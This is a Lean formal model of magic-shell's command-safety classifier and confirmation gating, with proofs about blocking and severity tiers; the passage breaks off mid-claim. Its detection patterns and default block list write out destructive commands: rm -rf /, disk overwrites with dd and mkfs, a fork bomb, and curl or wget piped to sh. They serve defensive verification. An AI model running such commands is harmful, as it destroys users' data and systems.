import Mathlib

/-!
Verification of the command-risk classification engine and confirmation
gating of magic-shell.

The embedding covers:
* `src/src/lib/safety.ts` — the pattern tables and `analyzeCommand`;
* the configuration defaults and `loadConfig` merge logic;
* the non-interactive execute-mode gate of `translate`;
* the interactive session step (`processCommand`, the Enter/Escape
  handling of `handleKeypress`) of `src/src/cli.ts`.

JavaScript regular-expression literals are embedded through a small
derivative-based matcher (`Regex`, `search`): `re.test(s)` is modelled as
`search re s.toList`, i.e. "some substring of `s` matches `re`".
External effects (the spawned child process, `process.chdir`, the clock)
are passed in as an explicit environment.
-/

namespace MagicShell

/-! ## A regular-expression matcher

`Regex` covers exactly the constructs used by the pattern tables of
`safety.ts`: character classes (with ranges and negation, by code point),
concatenation, alternation and Kleene star.  Matching is by Brzozowski
derivatives; everything is executable so that concrete commands can be
classified by `decide`. -/

inductive Regex where
  | fail : Regex
  | eps : Regex
  | cls : List (Nat × Nat) → Bool → Regex
  | cat : Regex → Regex → Regex
  | alt : Regex → Regex → Regex
  | star : Regex → Regex
deriving Repr

/-- Does a character fall in a (possibly negated) class of code-point ranges? -/
def clsMatch (ranges : List (Nat × Nat)) (negated : Bool) (c : Char) : Bool :=
  (ranges.any fun p => decide (p.1 ≤ c.toNat) && decide (c.toNat ≤ p.2)) != negated

/-- Does the regex accept the empty string? -/
def nullable : Regex → Bool
  | .fail => false
  | .eps => true
  | .cls _ _ => false
  | .cat a b => nullable a && nullable b
  | .alt a b => nullable a || nullable b
  | .star _ => true

/-- Brzozowski derivative with respect to one character. -/
def deriv : Regex → Char → Regex
  | .fail, _ => .fail
  | .eps, _ => .fail
  | .cls ranges negated, c => if clsMatch ranges negated c then .eps else .fail
  | .cat a b, c =>
      if nullable a then .alt (.cat (deriv a c) b) (deriv b c)
      else .cat (deriv a c) b
  | .alt a b, c => .alt (deriv a c) (deriv b c)
  | .star a, c => .cat (deriv a c) (.star a)

/-- Does the regex match some prefix of the character list? -/
def startMatch (r : Regex) : List Char → Bool
  | [] => nullable r
  | c :: cs => nullable r || startMatch (deriv r c) cs

/-- JavaScript `re.test(s)` for an unanchored regex: some substring matches. -/
def search (r : Regex) : List Char → Bool
  | [] => nullable r
  | c :: cs => startMatch r (c :: cs) || search r cs

/-- Does the regex match the whole character list? -/
def exactMatch : Regex → List Char → Bool
  | r, [] => nullable r
  | r, c :: cs => exactMatch (deriv r c) cs

/-- Does the regex match some suffix of the list (a match ending exactly at
the end of the input)?  Used to translate a trailing `$` anchor. -/
def suffixMatch (r : Regex) : List Char → Bool
  | [] => nullable r
  | c :: cs => exactMatch r (c :: cs) || suffixMatch r cs

/-! Combinators used to transcribe the regex literals. -/

/-- A literal string. -/
def lit (s : String) : Regex :=
  (s.toList.map fun c => Regex.cls [(c.toNat, c.toNat)] false).foldr Regex.cat .eps

/-- Transcribes `[abc]`: a class listing individual characters. -/
def cls1 (s : String) : Regex :=
  .cls (s.toList.map fun c => (c.toNat, c.toNat)) false

/-- Transcribes an `[a-z]`-style single range. -/
def rangeCls (a b : Char) : Regex := .cls [(a.toNat, b.toNat)] false

def alt2 (a b : Regex) : Regex := .alt a b

def starR (a : Regex) : Regex := .star a

/-- Transcribes `r+`. -/
def plusR (a : Regex) : Regex := .cat a (.star a)

/-- Transcribes `r?`. -/
def optR (a : Regex) : Regex := .alt a .eps

/-- Sequence a list of regexes. -/
def seqs (rs : List Regex) : Regex := rs.foldr Regex.cat .eps

/-- The code-point ranges of JavaScript `\s` (WhiteSpace plus line
terminators). -/
def wsRanges : List (Nat × Nat) :=
  [(9, 13), (32, 32), (160, 160), (5760, 5760), (8192, 8202),
   (8232, 8233), (8239, 8239), (8287, 8287), (12288, 12288), (65279, 65279)]

/-- JavaScript `\s`. -/
def ws : Regex := .cls wsRanges false

/-- JavaScript `.` (any character except line terminators). -/
def dot : Regex := .cls [(10, 10), (13, 13), (8232, 8233)] true

/-! ## JavaScript string primitives

`analyzeCommand` normalizes with `command.toLowerCase().trim()` and the
override checks use `String.prototype.includes`.  These are modelled on
`List Char`. -/

/-- ASCII lowercasing of one character (`String.prototype.toLowerCase`
restricted to the ASCII range the command strings use). -/
def lowerChar (c : Char) : Char :=
  if 65 ≤ c.toNat && c.toNat ≤ 90 then Char.ofNat (c.toNat + 32) else c

def lowerL (cs : List Char) : List Char := cs.map lowerChar

/-- Is the character JavaScript whitespace (the `\s` set)? -/
def isJsSpace (c : Char) : Bool := clsMatch wsRanges false c

/-- Models `String.prototype.trim`: strip whitespace from both ends. -/
def trimL (cs : List Char) : List Char :=
  ((cs.dropWhile isJsSpace).reverse.dropWhile isJsSpace).reverse

/-- Does the second list start with the first? -/
def startsWithL : List Char → List Char → Bool
  | [], _ => true
  | _ :: _, [] => false
  | a :: as, b :: bs => a == b && startsWithL as bs

/-- Models `String.prototype.includes`: does `hay` contain `needle` contiguously? -/
def listContains (hay needle : List Char) : Bool :=
  match hay with
  | [] => needle.isEmpty
  | _ :: rest => startsWithL needle hay || listContains rest needle

/-! ## The pattern catalog (`safety.ts` lines 4–59)

A rule keeps the source text of the regex literal (JavaScript `pattern.source`,
pushed into the pattern list of the verdict) and its test on the normalized
command. -/

structure Rule where
  source : String
  test : List Char → Bool

/-- Build a rule whose test is the unanchored `re.test`. -/
def Rule.ofRe (src : String) (re : Regex) : Rule :=
  ⟨src, fun n => search re n⟩

/-- Core of `rm\s+(-[rf]+\s+)*[\/~](\s|$)` up to the final `(\s|$)`. -/
def rmRootCore : Regex :=
  seqs [lit "rm", plusR ws, starR (seqs [lit "-", plusR (cls1 "rf"), plusR ws]), cls1 "/~"]

/-- A regex of shape `A(\s|$)` matches somewhere iff `A\s` matches somewhere or `A` matches a
substring ending at the end of the input; the first critical rule is the
only one with a `$` anchor and is translated through this equivalence. -/
def rmRootRule : Rule :=
  ⟨"rm\\s+(-[rf]+\\s+)*[\\/~](\\s|$)",
   fun n => search (Regex.cat rmRootCore ws) n || suffixMatch rmRootCore n⟩

/-- From `safety.ts` lines 4–15: patterns that are always dangerous. -/
def CRITICAL_PATTERNS : List Rule :=
  [ rmRootRule,
    Rule.ofRe "rm\\s+(-[rf]+\\s+)*\\/\\*"
      (seqs [lit "rm", plusR ws, starR (seqs [lit "-", plusR (cls1 "rf"), plusR ws]), lit "/*"]),
    Rule.ofRe "rm\\s+-[rf]*\\s+--no-preserve-root"
      (seqs [lit "rm", plusR ws, lit "-", starR (cls1 "rf"), plusR ws, lit "--no-preserve-root"]),
    Rule.ofRe ">\\s*\\/dev\\/sd[a-z]"
      (seqs [lit ">", starR ws, lit "/dev/sd", rangeCls 'a' 'z']),
    Rule.ofRe "dd\\s+.*of=\\/dev\\/sd[a-z]"
      (seqs [lit "dd", plusR ws, starR dot, lit "of=/dev/sd", rangeCls 'a' 'z']),
    Rule.ofRe "mkfs\\." (lit "mkfs."),
    Rule.ofRe ":\\(\\)\\s*\\\x7b.*\\\x7d"
      (seqs [lit ":()", starR ws, cls1 "\x7b", starR dot, cls1 "\x7d"]),
    Rule.ofRe "chmod\\s+(-R\\s+)?777\\s+\\/"
      (seqs [lit "chmod", plusR ws, optR (seqs [lit "-R", plusR ws]), lit "777", plusR ws, lit "/"]),
    Rule.ofRe "wget.*\\|\\s*(ba)?sh"
      (seqs [lit "wget", starR dot, lit "|", starR ws, optR (lit "ba"), lit "sh"]),
    Rule.ofRe "curl.*\\|\\s*(ba)?sh"
      (seqs [lit "curl", starR dot, lit "|", starR ws, optR (lit "ba"), lit "sh"]) ]

/-- From `safety.ts` lines 18–31: high severity but possibly intentional. -/
def HIGH_PATTERNS : List Rule :=
  [ Rule.ofRe "rm\\s+-[rf]+" (seqs [lit "rm", plusR ws, lit "-", plusR (cls1 "rf")]),
    Rule.ofRe "sudo\\s+rm" (seqs [lit "sudo", plusR ws, lit "rm"]),
    Rule.ofRe ">\\s*\\/etc\\/" (seqs [lit ">", starR ws, lit "/etc/"]),
    Rule.ofRe "chmod\\s+-R" (seqs [lit "chmod", plusR ws, lit "-R"]),
    Rule.ofRe "chown\\s+-R" (seqs [lit "chown", plusR ws, lit "-R"]),
    Rule.ofRe "kill\\s+-9\\s+-1" (seqs [lit "kill", plusR ws, lit "-9", plusR ws, lit "-1"]),
    Rule.ofRe "killall" (lit "killall"),
    Rule.ofRe "pkill" (lit "pkill"),
    Rule.ofRe "shutdown" (lit "shutdown"),
    Rule.ofRe "reboot" (lit "reboot"),
    Rule.ofRe "systemctl\\s+(stop|disable)"
      (seqs [lit "systemctl", plusR ws, alt2 (lit "stop") (lit "disable")]),
    Rule.ofRe "service\\s+.*\\s+stop"
      (seqs [lit "service", plusR ws, starR dot, plusR ws, lit "stop"]) ]

/-- From `safety.ts` lines 34–49: medium severity, common but need attention. -/
def MEDIUM_PATTERNS : List Rule :=
  [ Rule.ofRe "sudo\\s+" (seqs [lit "sudo", plusR ws]),
    Rule.ofRe "rm\\s+" (seqs [lit "rm", plusR ws]),
    Rule.ofRe "mv\\s+.*\\/" (seqs [lit "mv", plusR ws, starR dot, lit "/"]),
    Rule.ofRe "cp\\s+-[rf]" (seqs [lit "cp", plusR ws, lit "-", cls1 "rf"]),
    Rule.ofRe "chmod\\s+" (seqs [lit "chmod", plusR ws]),
    Rule.ofRe "chown\\s+" (seqs [lit "chown", plusR ws]),
    Rule.ofRe "apt\\s+(remove|purge)"
      (seqs [lit "apt", plusR ws, alt2 (lit "remove") (lit "purge")]),
    Rule.ofRe "brew\\s+uninstall" (seqs [lit "brew", plusR ws, lit "uninstall"]),
    Rule.ofRe "npm\\s+uninstall\\s+-g"
      (seqs [lit "npm", plusR ws, lit "uninstall", plusR ws, lit "-g"]),
    Rule.ofRe "pip\\s+uninstall" (seqs [lit "pip", plusR ws, lit "uninstall"]),
    Rule.ofRe "git\\s+push\\s+.*--force"
      (seqs [lit "git", plusR ws, lit "push", plusR ws, starR dot, lit "--force"]),
    Rule.ofRe "git\\s+reset\\s+--hard"
      (seqs [lit "git", plusR ws, lit "reset", plusR ws, lit "--hard"]),
    Rule.ofRe "docker\\s+rm" (seqs [lit "docker", plusR ws, lit "rm"]),
    Rule.ofRe "docker\\s+system\\s+prune"
      (seqs [lit "docker", plusR ws, lit "system", plusR ws, lit "prune"]) ]

/-- From `safety.ts` lines 52–59: low severity but worth noting. -/
def LOW_PATTERNS : List Rule :=
  [ Rule.ofRe "git\\s+checkout" (seqs [lit "git", plusR ws, lit "checkout"]),
    Rule.ofRe "git\\s+stash" (seqs [lit "git", plusR ws, lit "stash"]),
    Rule.ofRe "npm\\s+install" (seqs [lit "npm", plusR ws, lit "install"]),
    Rule.ofRe "pip\\s+install" (seqs [lit "pip", plusR ws, lit "install"]),
    Rule.ofRe "brew\\s+install" (seqs [lit "brew", plusR ws, lit "install"]),
    Rule.ofRe "apt\\s+install" (seqs [lit "apt", plusR ws, lit "install"]) ]

/-! ## Data model (`types.ts`) -/

inductive Severity where
  | low | medium | high | critical
deriving DecidableEq, Repr

inductive SafetyLevel where
  | strict | moderate | relaxed
deriving DecidableEq, Repr

/-- The `Config` record of `types.ts` (the presentation-only `theme` and
`customModels` fields are omitted; the classifier reads only
`safetyLevel`, `blockedCommands` and `confirmedDangerousPatterns`). -/
structure Config where
  provider : String
  openrouterApiKey : String
  opencodeZenApiKey : String
  defaultModel : String
  safetyLevel : SafetyLevel
  dryRunByDefault : Bool
  blockedCommands : List String
  confirmedDangerousPatterns : List String
  repoContext : Option Bool
deriving DecidableEq, Repr

structure SafetyAnalysis where
  isDangerous : Bool
  severity : Severity
  reason : Option String
  patterns : List String
deriving DecidableEq, Repr

/-! ## The classifier (`safety.ts` lines 61–155) -/

/-- Models `command.toLowerCase().trim()` (`safety.ts` line 62). -/
def normalize (command : String) : List Char := trimL (lowerL command.toList)

/-- First entry of `config.blockedCommands` contained (case-insensitively) in
the normalized command — the loop of `safety.ts` lines 65–74 returns on the
first hit. -/
def blockedHit (n : List Char) (config : Config) : Option String :=
  config.blockedCommands.find? fun blocked => listContains n (lowerL blocked.toList)

/-- Sources of the rules of one tier matching the normalized command, in
table order (the pushes of the per-tier loops). -/
def matchedSources (rules : List Rule) (n : List Char) : List String :=
  (rules.filter fun r => r.test n).map Rule.source

/-- Does any rule of the tier match? -/
def anyMatch (rules : List Rule) (n : List Char) : Bool :=
  rules.any fun r => r.test n

/-- From `safety.ts` lines 144–155. -/
def getSeverityMessage : Severity → String
  | .critical => "This command could cause irreversible damage to your system!"
  | .high => "This command may cause significant changes or data loss."
  | .medium => "This command requires elevated privileges or modifies system state."
  | .low => "This command may make changes worth reviewing."

/-- From `safety.ts` lines 128–130: has the user previously confirmed a pattern
contained in the normalized command? -/
def wasConfirmedOn (n : List Char) (config : Config) : Bool :=
  config.confirmedDangerousPatterns.any fun p => listContains n (lowerL p.toList)

/-! The tier evaluation of `safety.ts` lines 76–114, rendered as one named
value per loop: the `matchedSources` of a tier are the pushes of its loop
(in table order) and each `sev` value is the net severity after that loop. -/

/-- Lines 79–85: the pushes of the critical loop. -/
def criticalMs (n : List Char) : List String := matchedSources CRITICAL_PATTERNS n

/-- Severity after the critical loop. -/
def sevAfterCrit (n : List Char) : Severity :=
  if (criticalMs n).isEmpty then .low else .critical

/-- Lines 87–95: the high loop runs only when severity is not critical. -/
def highMs (n : List Char) : List String :=
  if sevAfterCrit n = Severity.critical then [] else matchedSources HIGH_PATTERNS n

/-- Severity after the high loop. -/
def sevAfterHigh (n : List Char) : Severity :=
  if (highMs n).isEmpty then sevAfterCrit n else .high

/-- Lines 97–105: the medium loop is unconditional. -/
def mediumMs (n : List Char) : List String := matchedSources MEDIUM_PATTERNS n

/-- Severity after the medium loop: raised to medium only from low. -/
def sevAfterMed (n : List Char) : Severity :=
  if (mediumMs n).isEmpty then sevAfterHigh n
  else if sevAfterHigh n = Severity.low then .medium else sevAfterHigh n

/-- Matches recorded before the low loop. -/
def msBeforeLow (n : List Char) : List String := criticalMs n ++ highMs n ++ mediumMs n

/-- Lines 107–114: the low loop runs only when nothing matched yet. -/
def lowMs (n : List Char) : List String :=
  if (msBeforeLow n).isEmpty then matchedSources LOW_PATTERNS n else []

/-- The final `matchedPatterns`. -/
def allMs (n : List Char) : List String := msBeforeLow n ++ lowMs n

/-- Lines 116–125: the safety-level gate. -/
def gateOf (lvl : SafetyLevel) (n : List Char) : Bool :=
  match lvl with
  | .strict => !(allMs n).isEmpty
  | .moderate => sevAfterMed n = Severity.critical || sevAfterMed n = Severity.high
  | .relaxed => sevAfterMed n = Severity.critical

/-- The tier evaluation, gate and override of `safety.ts` lines 76–141
(reached only when no blocked entry matched). -/
def classifyTiers (n : List Char) (config : Config) : SafetyAnalysis :=
  -- lines 127–134: user override, not applied at critical severity
  let isDangerous : Bool :=
    if wasConfirmedOn n config && !(sevAfterMed n = Severity.critical) then false
    else gateOf config.safetyLevel n
  -- lines 136–141
  { isDangerous := isDangerous,
    severity := if (allMs n).isEmpty then .low else sevAfterMed n,
    reason := if isDangerous then some (getSeverityMessage (sevAfterMed n)) else none,
    patterns := allMs n }

/-- The function `analyzeCommand` (`safety.ts` lines 61–142). -/
def analyzeCommand (command : String) (config : Config) : SafetyAnalysis :=
  let n := normalize command
  match blockedHit n config with
  | some blocked =>
      { isDangerous := true,
        severity := .critical,
        reason := some ("Command contains blocked pattern: " ++ blocked),
        patterns := [blocked] }
  | none => classifyTiers n config

/-! ## Configuration loading (`config.ts`) -/

/-- The `DEFAULT_CONFIG` object from `config.ts`. -/
def DEFAULT_CONFIG : Config :=
  { provider := "opencode-zen",
    openrouterApiKey := "",
    opencodeZenApiKey := "",
    defaultModel := "big-pickle",
    safetyLevel := .moderate,
    dryRunByDefault := false,
    blockedCommands :=
      [":()\x7b :|:& \x7d;:",
       "> /dev/sda",
       "mkfs",
       "dd if=/dev/zero",
       "chmod -R 777 /",
       "chown -R"],
    confirmedDangerousPatterns := [],
    repoContext := some false }

/-- The persisted file parsed as `Partial<Config>`: every field may be
absent. -/
structure PartialConfig where
  provider : Option String
  openrouterApiKey : Option String
  opencodeZenApiKey : Option String
  defaultModel : Option String
  safetyLevel : Option SafetyLevel
  dryRunByDefault : Option Bool
  blockedCommands : Option (List String)
  confirmedDangerousPatterns : Option (List String)
  repoContext : Option (Option Bool)
deriving DecidableEq, Repr

/-- State of the persisted config file as `loadConfig` observes it:
absent, unparseable JSON, or parsed content. -/
inductive StoredConfig where
  | missing
  | malformed
  | parsed (loaded : PartialConfig)
deriving DecidableEq, Repr

/-- The object spread `{ ...DEFAULT_CONFIG, ...loaded }`: a present field of
`loaded` wins over the default. -/
def mergeConfig (d : Config) (o : PartialConfig) : Config :=
  { provider := o.provider.getD d.provider,
    openrouterApiKey := o.openrouterApiKey.getD d.openrouterApiKey,
    opencodeZenApiKey := o.opencodeZenApiKey.getD d.opencodeZenApiKey,
    defaultModel := o.defaultModel.getD d.defaultModel,
    safetyLevel := o.safetyLevel.getD d.safetyLevel,
    dryRunByDefault := o.dryRunByDefault.getD d.dryRunByDefault,
    blockedCommands := o.blockedCommands.getD d.blockedCommands,
    confirmedDangerousPatterns :=
      o.confirmedDangerousPatterns.getD d.confirmedDangerousPatterns,
    repoContext := o.repoContext.getD d.repoContext }

/-- The function `loadConfig` from `config.ts`: a missing file returns the defaults, a
parse failure is caught and returns the defaults, and parsed content is
spread over the defaults. -/
def loadConfig : StoredConfig → Config
  | .missing => DEFAULT_CONFIG
  | .malformed => DEFAULT_CONFIG
  | .parsed o => mergeConfig DEFAULT_CONFIG o

/-! ## Non-interactive execute mode (`translate`, execute branch)

From the CLI entry point: after translation, `analyzeCommand` is consulted;
a dangerous verdict above `low` prints the verdict and exits 1, otherwise
`executeCommand` runs and the process exits with the exit code of the child
(`process.exit(result.code)`; a spawn error resolves to code 1 upstream).
The exit code of the child is an input of the model. -/

structure ExecModeOutcome where
  refused : Bool
  exitCode : Nat
deriving DecidableEq, Repr

def translateExecuteMode (safety : SafetyAnalysis) (childCode : Nat) : ExecModeOutcome :=
  if safety.isDangerous && !(safety.severity == Severity.low) then
    { refused := true, exitCode := 1 }
  else
    { refused := false, exitCode := childCode }

/-! ## The interactive session step (`cli.ts`)

`processCommand` and the pending-confirmation branches of `handleKeypress`
are modelled as functions of the session state with the external effects
(the clock, `process.chdir`, the spawned child) supplied by an `Env`.
The purely presentational state (renderables, focus) is outside the model;
the `Output` tag records which `setOutput`/message branch ran. -/

structure HistoryEntry where
  input : String
  command : String
  output : String
  timestamp : Nat
deriving DecidableEq, Repr

/-- External collaborators: `chdir p` is `process.chdir(p)` followed by
`cwd()` (`none` when `chdir` throws); `exec c` is `executeCommand(c)`
(`Except.error` when the promise rejects on a spawn error). -/
structure Env where
  home : String
  now : Nat
  chdir : String → Option String
  exec : String → Except String String

structure SessState where
  currentCwd : String
  dryRunMode : Bool
  pendingCommand : Option String
  awaitingConfirmation : Bool
  history : List HistoryEntry
deriving DecidableEq, Repr

inductive Output where
  | changedDir : String → Output
  | cdError : Output
  | dryRunPreview : String → Output
  | execResult : String → Output
  | execError : String → Output
  | cancelled : Output
  | quiet : Output
deriving DecidableEq, Repr

structure StepResult where
  state : SessState
  /-- Commands handed to the Execution Adapter (`executeCommand`). -/
  spawned : List String
  output : Output
deriving DecidableEq, Repr

/-- Models `clearCommandState` (`cli.ts` lines 655–661; the UI resets are
presentation). -/
def clearState (st : SessState) : SessState :=
  { st with pendingCommand := none, awaitingConfirmation := false }

/-- Models `addToHistory` (push, persist the last 100) followed by the
`history = loadHistory()` reload. -/
def pushHistory (h : List HistoryEntry) (e : HistoryEntry) : List HistoryEntry :=
  let h2 := h ++ [e]
  h2.drop (h2.length - 100)

/-- Models the quote-stripping replace of the cd path: remove one leading
and one trailing quote character (double or single). -/
def stripQuotesL (cs : List Char) : List Char :=
  let isQuote : Char → Bool := fun c => c == Char.ofNat 34 || c == Char.ofNat 39
  let a := match cs with
    | c :: rest => if isQuote c then rest else cs
    | [] => []
  match a.reverse with
  | c :: rest => if isQuote c then rest.reverse else a
  | [] => a

/-- The target handed to `process.chdir`: `command.slice(3).trim()`, quotes
stripped, a leading `~` replaced by `process.env.HOME` (`cli.ts` lines
572–574). -/
def cdPathOf (env : Env) (command : String) : String :=
  let path := stripQuotesL (trimL (command.toList.drop 3))
  let expanded := if startsWithL [Char.ofNat 126] path then env.home.toList ++ path.drop 1 else path
  String.mk expanded

def cdPrefixL : List Char := [Char.ofNat 99, Char.ofNat 100, Char.ofNat 32]

/-- Models `processCommand` (`cli.ts` lines 569–620): the `cd ` special case runs
first, then the dry-run check, then execution through the adapter. -/
def processCommand (env : Env) (st : SessState) (input command : String) : StepResult :=
  if startsWithL cdPrefixL command.toList then
    match env.chdir (cdPathOf env command) with
    | some newCwd =>
        { state := { clearState st with
                       currentCwd := newCwd,
                       history := pushHistory st.history
                         ⟨input, command, "Changed to " ++ newCwd, env.now⟩ },
          spawned := [],
          output := .changedDir newCwd }
    | none =>
        { state := clearState st, spawned := [], output := .cdError }
  else if st.dryRunMode then
    { state := clearState st, spawned := [], output := .dryRunPreview command }
  else
    match env.exec command with
    | .ok out =>
        { state := { clearState st with
                       history := pushHistory st.history
                         ⟨input, command, String.mk (out.toList.take 500), env.now⟩ },
          spawned := [command],
          output := .execResult out }
    | .error msg =>
        { state := clearState st, spawned := [command], output := .execError msg }

/-- The Escape branch of `handleKeypress` (`cli.ts` lines 1233–1251)
restricted to the pending-confirmation slot (the palette/selector closes
are presentation). -/
def handleEscape (st : SessState) : StepResult :=
  if st.awaitingConfirmation then
    { state := clearState st, spawned := [], output := .cancelled }
  else
    { state := st, spawned := [], output := .quiet }

/-- The Enter branch of `handleKeypress` (`cli.ts` lines 1254–1258):
with a pending command awaiting confirmation, clear the slot and hand the
command to `processCommand`. -/
def handleReturn (env : Env) (st : SessState) : StepResult :=
  match st.pendingCommand with
  | some cmd =>
      if st.awaitingConfirmation then processCommand env (clearState st) "" cmd
      else { state := st, spawned := [], output := .quiet }
  | none => { state := st, spawned := [], output := .quiet }

/-! ## Helper lemmas -/

theorem matchedSources_nil_iff (rules : List Rule) (n : List Char) :
    matchedSources rules n = [] ↔ anyMatch rules n = false := by
  simp [matchedSources, anyMatch, List.filter_eq_nil_iff, List.any_eq_true]

theorem matchedSources_isEmpty_eq (rules : List Rule) (n : List Char) :
    (matchedSources rules n).isEmpty = !anyMatch rules n := by
  by_cases h : anyMatch rules n
  · have : matchedSources rules n ≠ [] := by
      intro hnil
      rw [matchedSources_nil_iff] at hnil
      simp [hnil] at h
    simp [List.isEmpty_iff, this, h]
  · have : matchedSources rules n = [] := by
      rw [matchedSources_nil_iff]
      simpa using h
    simp [List.isEmpty_iff, this, Bool.eq_false_iff.mpr h]

theorem isEmptyAppend (a b : List String) :
    (a ++ b).isEmpty = (a.isEmpty && b.isEmpty) := by
  cases a <;> simp [List.isEmpty]

theorem sevAfterCrit_critical_iff (n : List Char) :
    sevAfterCrit n = Severity.critical ↔ (criticalMs n).isEmpty = false := by
  unfold sevAfterCrit
  by_cases h : (criticalMs n).isEmpty <;> simp [h]

theorem sevAfterHigh_critical_iff (n : List Char) :
    sevAfterHigh n = Severity.critical ↔ sevAfterCrit n = Severity.critical := by
  unfold sevAfterHigh highMs
  by_cases h : sevAfterCrit n = Severity.critical
  · simp [h]
  · by_cases h2 : (matchedSources HIGH_PATTERNS n).isEmpty <;> simp [h, h2]

theorem sevAfterMed_critical_iff (n : List Char) :
    sevAfterMed n = Severity.critical ↔ sevAfterCrit n = Severity.critical := by
  unfold sevAfterMed
  by_cases h : (mediumMs n).isEmpty
  · simp [h, sevAfterHigh_critical_iff]
  · by_cases h2 : sevAfterHigh n = Severity.low
    · simp only [h, Bool.false_eq_true, if_false, h2, if_true]
      constructor
      · intro hc
        exact absurd hc (by decide)
      · intro hc
        have hhi := (sevAfterHigh_critical_iff n).mpr hc
        rw [h2] at hhi
        exact absurd hhi (by decide)
    · simp [h, h2, sevAfterHigh_critical_iff]

/-- With all tiers empty the running severity stays `low`. -/
theorem sevAfterMed_of_empty (n : List Char)
    (hc : criticalMs n = []) (hh : matchedSources HIGH_PATTERNS n = [])
    (hm : mediumMs n = []) : sevAfterMed n = Severity.low := by
  unfold sevAfterMed sevAfterHigh highMs sevAfterCrit
  simp [hc, hh, hm]

/-- An empty final pattern list means the match list of every tier was empty. -/
theorem allMs_nil_parts (n : List Char) (h : allMs n = []) :
    criticalMs n = [] ∧ matchedSources HIGH_PATTERNS n = [] ∧ mediumMs n = [] := by
  unfold allMs msBeforeLow at h
  rcases List.append_eq_nil.mp h with ⟨h0, _⟩
  rcases List.append_eq_nil.mp h0 with ⟨h01, hm⟩
  rcases List.append_eq_nil.mp h01 with ⟨hc, hh⟩
  refine ⟨hc, ?_, hm⟩
  unfold highMs at hh
  by_cases hcrit : sevAfterCrit n = Severity.critical
  · exfalso
    rw [sevAfterCrit_critical_iff, hc] at hcrit
    simp at hcrit
  · simpa [hcrit] using hh

theorem sevAfterMed_low_of_nil (n : List Char) (h : allMs n = []) :
    sevAfterMed n = Severity.low := by
  obtain ⟨hc, hh, hm⟩ := allMs_nil_parts n h
  exact sevAfterMed_of_empty n hc hh hm

theorem allMs_ne_nil_of_sev (n : List Char) (h : sevAfterMed n ≠ Severity.low) :
    allMs n ≠ [] :=
  fun hnil => h (sevAfterMed_low_of_nil n hnil)

/-- The reported severity always equals the running severity after the
medium loop. -/
theorem classifyTiers_severity (n : List Char) (cfg : Config) :
    (classifyTiers n cfg).severity = sevAfterMed n := by
  unfold classifyTiers
  by_cases h : (allMs n).isEmpty
  · simp [h, sevAfterMed_low_of_nil n (List.isEmpty_iff.mp h)]
  · simp [h]

/-- The running severity is the highest tier with a matching rule. -/
theorem sevAfterMed_eq_tier (n : List Char) :
    sevAfterMed n =
      (if anyMatch CRITICAL_PATTERNS n then Severity.critical
       else if anyMatch HIGH_PATTERNS n then Severity.high
       else if anyMatch MEDIUM_PATTERNS n then Severity.medium
       else Severity.low) := by
  by_cases hc : anyMatch CRITICAL_PATTERNS n <;>
  by_cases hh : anyMatch HIGH_PATTERNS n <;>
  by_cases hm : anyMatch MEDIUM_PATTERNS n <;>
    simp [sevAfterMed, sevAfterHigh, sevAfterCrit, highMs, criticalMs, mediumMs,
          matchedSources_isEmpty_eq, hc, hh, hm]

/-- The final pattern list, tier by tier. -/
theorem allMs_eq_tier (n : List Char) :
    allMs n =
      matchedSources CRITICAL_PATTERNS n ++
        (if anyMatch CRITICAL_PATTERNS n then []
         else matchedSources HIGH_PATTERNS n) ++
        matchedSources MEDIUM_PATTERNS n ++
        (if anyMatch CRITICAL_PATTERNS n || anyMatch HIGH_PATTERNS n ||
            anyMatch MEDIUM_PATTERNS n then []
         else matchedSources LOW_PATTERNS n) := by
  by_cases hc : anyMatch CRITICAL_PATTERNS n <;>
  by_cases hh : anyMatch HIGH_PATTERNS n <;>
  by_cases hm : anyMatch MEDIUM_PATTERNS n <;>
    simp [allMs, msBeforeLow, lowMs, sevAfterCrit, highMs, criticalMs, mediumMs,
          isEmptyAppend, matchedSources_isEmpty_eq, hc, hh, hm]

/-- A matched blocked entry short-circuits `analyzeCommand`. -/
theorem analyzeCommand_blocked (cmd : String) (cfg : Config) (b : String)
    (h : blockedHit (normalize cmd) cfg = some b) :
    analyzeCommand cmd cfg =
      { isDangerous := true, severity := .critical,
        reason := some ("Command contains blocked pattern: " ++ b),
        patterns := [b] } := by
  simp [analyzeCommand, h]

/-- Without a blocked hit, `analyzeCommand` is the tier classification. -/
theorem analyzeCommand_not_blocked (cmd : String) (cfg : Config)
    (h : blockedHit (normalize cmd) cfg = none) :
    analyzeCommand cmd cfg = classifyTiers (normalize cmd) cfg := by
  simp [analyzeCommand, h]

/-! ## The claims -/

/-- C1 (corrected): when the normalized command contains a blocked entry,
`analyzeCommand` returns — before any tier rule is evaluated and for every
safety level and every confirmed-pattern list — a critical, dangerous
verdict whose pattern list is exactly the first matching blocked entry `b`,
with reason `"Command contains blocked pattern: " ++ b` (the actual reason
text of the code, which differs from the reason the claim quotes). -/
theorem C1_blocked_shortcircuit (cmd : String) (cfg : Config) (b : String)
    (h : blockedHit (normalize cmd) cfg = some b) :
    ∀ (lvl : SafetyLevel) (ps : List String),
      analyzeCommand cmd
        { cfg with safetyLevel := lvl, confirmedDangerousPatterns := ps } =
        { isDangerous := true, severity := .critical,
          reason := some ("Command contains blocked pattern: " ++ b),
          patterns := [b] } := by
  intro lvl ps
  exact analyzeCommand_blocked cmd
    { cfg with safetyLevel := lvl, confirmedDangerousPatterns := ps } b h

theorem C1_witness :
    blockedHit (normalize "mkfs /dev/sda1") DEFAULT_CONFIG = some "mkfs" ∧
    analyzeCommand "mkfs /dev/sda1"
      { DEFAULT_CONFIG with
          safetyLevel := .relaxed, confirmedDangerousPatterns := ["mkfs"] } =
      { isDangerous := true, severity := .critical,
        reason := some ("Command contains blocked pattern: " ++ "mkfs"),
        patterns := ["mkfs"] } :=
  ⟨by decide,
   C1_blocked_shortcircuit "mkfs /dev/sda1" DEFAULT_CONFIG "mkfs" (by decide)
     .relaxed ["mkfs"]⟩

/-- C1, claim as frozen, is false: for the blocked command
`mkfs /dev/sda1` under the default config the returned reason is not
`"blocked pattern: mkfs"` (it is `"Command contains blocked pattern: mkfs"`). -/
theorem C1_counterexample :
    listContains (normalize "mkfs /dev/sda1") (lowerL "mkfs".toList) = true ∧
    (analyzeCommand "mkfs /dev/sda1" DEFAULT_CONFIG).reason ≠
      some "blocked pattern: mkfs" := by
  exact ⟨by decide, by decide⟩

/-- C3 (confirmed): without a blocked hit, the reported severity is the
highest tier actually matched (critical beats high beats medium; the high
tier is only consulted when no critical rule matched), the pattern list is
the critical matches, then — only absent a critical match — the high
matches, then always the medium matches, then the low matches only when no
